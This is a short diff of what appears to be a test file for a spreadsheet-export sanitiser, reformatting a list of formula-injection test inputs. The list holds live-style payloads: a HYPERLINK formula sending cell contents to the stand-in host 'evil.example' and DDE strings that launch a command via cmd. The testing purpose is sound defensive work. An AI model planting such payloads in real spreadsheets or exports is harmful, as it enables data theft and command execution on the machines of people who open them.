@@ -12,7 +12,8 @@ from nurture.engine.spreadsheet import as_told, tame
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "a;=1+1", 'a"=1+1', "a\t=1", "a,=1", "'=1", "-1-1", " =1", "a; =1",
+    "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "a;=1+1", 'a"=1+1', "a\t=1", "a,=1", "'=1", "-1-1", " =1",
+    "a; =1",
 ]  # fmt: skip
 
 
